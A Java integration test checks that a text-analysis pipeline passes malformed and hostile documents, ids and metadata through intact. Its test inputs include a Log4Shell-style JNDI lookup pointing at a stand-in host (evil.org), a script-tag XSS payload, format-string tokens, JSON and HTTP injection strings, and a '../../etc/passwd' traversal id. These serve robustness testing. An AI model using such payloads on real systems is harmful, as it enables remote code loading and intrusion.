package io.languageanalyze.it;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;

import io.languageanalyze.AnalysisResults;
import io.languageanalyze.emulator.LanguageEmulator;
import io.languageanalyze.model.AnalyzedDocument;
import io.languageanalyze.model.Document;
import io.languageanalyze.model.task.Task;
import io.languageanalyze.model.task.TextTasks;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.apache.beam.sdk.Pipeline;
import org.apache.beam.sdk.transforms.Create;
import org.junit.jupiter.api.Test;

/** Texts, ids and metadata that somebody chose to break things: all come out again. */
class HostileDocumentsIT {

  private static final String EVERY_CONTROL =
      IntStream.range(0, 32).mapToObj(Character::toString).collect(Collectors.joining());

  private final Task<Document, ?> phrases = TextTasks.keyPhrases();
  private final Task<Document, ?> pii = TextTasks.pii();

  // Beam's coder of strings writes UTF-8, in which half a pair is a question mark.
  private static final List<String> TEXTS =
      List.of(
          "half a pair \ud83d in the middle",
          "\udc00",
          "a\ud83d",
          "NUL \0 and " + EVERY_CONTROL + "\u007f\u0085\u2028\u2029\ufeff\uffff",
          "\0".repeat(1_000),
          "\0".repeat(200_000),
          "right \u202e to \u202d left \u2066 and \u200b nothing",
          "e" + "\u0301".repeat(400_000),
          "e" + "\u0301".repeat(500_000),
          "\ud83d\udc68\u200d".repeat(30_000),
          "\"},{\"id\":\"0\",\"text\":\"injected\"}],\"tasks\":[]}",
          "]}}\r\n\r\nPOST /language/analyze-text/jobs HTTP/1.1\r\n\r\n",
          "\\u0000\\ud800\\\"",
          "${jndi:ldap://evil.org/x} %s %n {} <script>alert(1)</script>",
          "word ".repeat(20_000));

  private static final List<String> IDS =
      List.of(
          "",
          " ",
          "0",
          "\"quoted\" and 'quoted' and \\",
          "line\none\r\ntwo\u2028three",
          "\0\u0001",
          "x".repeat(10_000),
          "\ud83d\ude00".repeat(5_000),
          "../../etc/passwd",
          "#/results/documents/0",
          "{\"id\":\"1\"}",
          "\ud800");

  private static final Map<String, String> METADATA =
      Map.of(
          "deep",
          "[".repeat(100_000),
          "deeper",
          "{\"a\":".repeat(50_000),
          "number",
          "1e999999999",
          "\"},\"id\":\"other\",{\"",
          "\0\n\r\"\\",
          "",
          "",
          "zip",
          "\u001f\u008b\b".repeat(10_000));

  @Test
  void hostileDocuments_allComeOut_withTheirIdsAndMetadata() {
    List<Document> documents = new ArrayList<>();
    for (int i = 0; i < TEXTS.size(); i++) {
      documents.add(Document.of("text-" + i, TEXTS.get(i)));
    }
    for (String id : IDS) {
      documents.add(Document.of(id, "A quiet text.").withMetadata(METADATA));
    }
    for (int i = 0; i < 60; i++) {
      documents.add(Document.of("always the same", "Text number " + i + "."));
    }
    try (LanguageEmulator emulator = TestPipelines.service(50).start()) {
      Pipeline pipeline = TestPipelines.pipeline();
      AnalysisResults results =
          pipeline
              .apply(Create.of(documents))
              .apply(TestPipelines.analyze(emulator).withTasks(phrases, pii));
      Oracle oracle = Oracle.on(results, phrases, pii);
      pipeline.run().waitUntilFinish();

      oracle.assertHolds(documents.stream().map(document -> coded(document.getId())).toList());
      for (AnalyzedDocument document : oracle.documents()) {
        String id = document.getDocument().getId();
        boolean plain = id.startsWith("text-") || id.startsWith("always");
        assertEquals(plain ? Map.of() : METADATA, document.getDocument().getMetadata(), id);
      }
      assertEquals(Map.of("TOO_LARGE", 2L), reasons(oracle), oracle.dead().toString());
      assertEquals(emulator.stats().jobs(), emulator.stats().submits(), "no job was refused");
    }
  }

  private static Map<String, Long> reasons(Oracle oracle) {
    Map<String, Long> reasons = new TreeMap<>();
    oracle.dead().forEach(letter -> reasons.merge(letter.getReason().name(), 1L, Long::sum));
    return reasons;
  }

  private static String coded(String text) {
    return new String(text.getBytes(UTF_8), UTF_8);
  }
}
